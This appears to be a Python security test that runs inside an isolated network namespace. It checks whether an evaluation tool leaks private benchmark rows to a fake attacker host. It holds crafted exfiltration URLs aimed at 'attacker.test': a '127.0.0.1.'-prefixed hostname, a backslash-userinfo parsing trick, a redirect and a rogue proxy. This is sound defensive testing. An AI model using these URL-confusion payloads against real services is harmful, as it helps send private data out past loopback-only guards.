"""The private-data attacks, run inside a network namespace of their own (see test_egress.py).

`python -m tests.egress_attack OUT.json`, as root inside `unshare -nm`: it gives the namespace a
made-up non-loopback address (10.200.0.1, on a veth pair, else on lo), points the names
`attacker.test` and `127.0.0.1.attacker.test` at it through a hosts file mounted over
/etc/hosts (in this mount namespace only), listens there as the attacker would, and runs
`openvsclosed run` on a private task with each attack. Nothing leaves the namespace. The result
(per attack: exit code, output, private rows the attacker's listeners received) goes to OUT.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from contextlib import ExitStack
from pathlib import Path

import yaml
from typer.testing import CliRunner

from tests.bad_server import bad_server

ATTACKER = "10.200.0.1"
ROWS = [{"q": f"Which beacon on Isle Quorvant {n} logs the zebra tide?",
         "opts": ["Ama", "Borin", "Cass"], "right": n % 3} for n in range(6)]
KEY = "sk-ovc-EGRESS-0123456789abcdef"


def network() -> str:
    """The made-up address on an interface of this namespace; how it was made."""
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    veth = subprocess.run(["ip", "link", "add", "ovc0", "type", "veth", "peer", "name", "ovc1"],
                          capture_output=True)
    if veth.returncode == 0:
        for cmd in (["ip", "addr", "add", f"{ATTACKER}/24", "dev", "ovc0"],
                    ["ip", "link", "set", "ovc0", "up"], ["ip", "link", "set", "ovc1", "up"]):
            subprocess.run(cmd, check=True)
        return "veth"
    subprocess.run(["ip", "addr", "add", f"{ATTACKER}/32", "dev", "lo"], check=True)
    return "lo"


def hosts(folder: Path) -> None:
    """attacker.test and 127.0.0.1.attacker.test -> the made-up address, in this namespace."""
    path = folder / "hosts"
    path.write_text(f"127.0.0.1 localhost\n{ATTACKER} attacker.test 127.0.0.1.attacker.test\n")
    subprocess.run(["mount", "--bind", str(path), "/etc/hosts"], check=True)


def config(folder: Path, name: str, base_url: str, private: bool = True) -> Path:
    """A run config: one API model at `base_url` on a private own task of six made-up rows."""
    data = folder / "rows.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in ROWS))
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump({
        "name": name, "results_dir": str(folder / name), "protocol": "chat",
        "models": [{"id": "target", "backend": "openai-compatible", "access": "closed",
                    "api_model": "m", "api_key_env": "OVC_BAD_KEY", "base_url": base_url,
                    "attempts": 1, "backoff_s": 0.01, "max_backoff_s": 0.02}],
        "tasks": [{"name": "own_secret", "file": str(data), "kind": "multiple_choice",
                   "columns": {"question": "q", "choices": "opts", "answer": "right"},
                   "private": private}],
        "defaults": {"num_fewshot": 0}}))
    return path


def rows_in(seen: list[dict]) -> int:
    """How many private rows reached a listener."""
    return sum(any(r["q"] in hit["body"] for hit in seen) for r in ROWS)


def run(cfg: Path, *args: str, env: dict | None = None) -> dict:
    """`openvsclosed run` in this process, with extra environment variables for the call."""
    from openvsclosed.cli import app

    saved = {k: os.environ.get(k) for k in (env or {})}
    os.environ.update(env or {})
    try:
        result = CliRunner().invoke(app, ["run", str(cfg), *args], catch_exceptions=False)
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    return {"exit": result.exit_code, "output": " ".join(result.output.split())}


def pinned_send(base_url: str) -> str:
    """The connection-time guard alone, without the plan's check in front of it."""
    from openvsclosed.config import RunConfig
    from openvsclosed.models import load_model

    spec = RunConfig.model_validate({"name": "x", "models": [{
        "id": "t", "backend": "openai-compatible", "access": "closed", "api_model": "m",
        "api_key_env": "OVC_BAD_KEY", "base_url": base_url, "attempts": 1}],
        "tasks": [{"name": "arc_easy"}]}).models[0]
    lm = load_model(spec)
    lm.private = lm.loopback_only = True
    try:
        lm.send({"model": "m", "messages": [{"role": "user", "content": ROWS[0]["q"]}]})
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"
    return "sent"


def main(out: Path) -> None:
    """Run every attack; write what each listener received."""
    os.environ["OVC_BAD_KEY"] = KEY
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "http_proxy",
                 "https_proxy", "all_proxy", "no_proxy"):
        os.environ.pop(name, None)
    folder = Path(tempfile.mkdtemp(prefix="ovc-egress-"))
    report: dict = {"interface": network()}
    hosts(folder)
    with ExitStack() as stack:
        sink_url, sink = stack.enter_context(bad_server("ok", host=ATTACKER, port=18106))
        proxy_url, proxy = stack.enter_context(bad_server("ok", host=ATTACKER, port=3128))
        local_url, local = stack.enter_context(bad_server("ok"))
        moved_url, _ = stack.enter_context(bad_server(
            "redirect", location=f"{sink_url}/v1/chat/completions"))
        path = "/v1/chat/completions"
        attacks = {
            "name_starting_127": f"http://127.0.0.1.attacker.test:18106{path}",
            "backslash_userinfo": f"http://attacker.test:18106\\@127.0.0.1:9{path}",
            "redirect_307": moved_url + path,
        }
        for name, url in attacks.items():
            before = len(sink)
            dry = run(config(folder, name, url), "--dry-run")
            real = run(config(folder, name, url))
            report[name] = {"url": url, "dry": dry, "run": real,
                            "sink_rows": rows_in(sink[before:])}
        before_proxy, before_local = len(proxy), len(local)
        proxy_env = {k: proxy_url for k in ("HTTP_PROXY", "http_proxy", "ALL_PROXY")}
        report["http_proxy"] = {"run": run(config(folder, "proxied", local_url + path),
                                           env=proxy_env),
                                "proxy_rows": rows_in(proxy[before_proxy:]),
                                "local_rows": rows_in(local[before_local:])}
        before = len(sink)
        report["pinned_send"] = {"outcome": pinned_send(attacks["name_starting_127"]),
                                 "sink_rows": rows_in(sink[before:])}
        before = len(sink)  # the control: without `private`, the same URL reaches the attacker
        report["control_not_private"] = {
            "run": run(config(folder, "control", attacks["name_starting_127"], private=False)),
            "sink_rows": rows_in(sink[before:])}
    out.write_text(json.dumps(report, indent=1))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
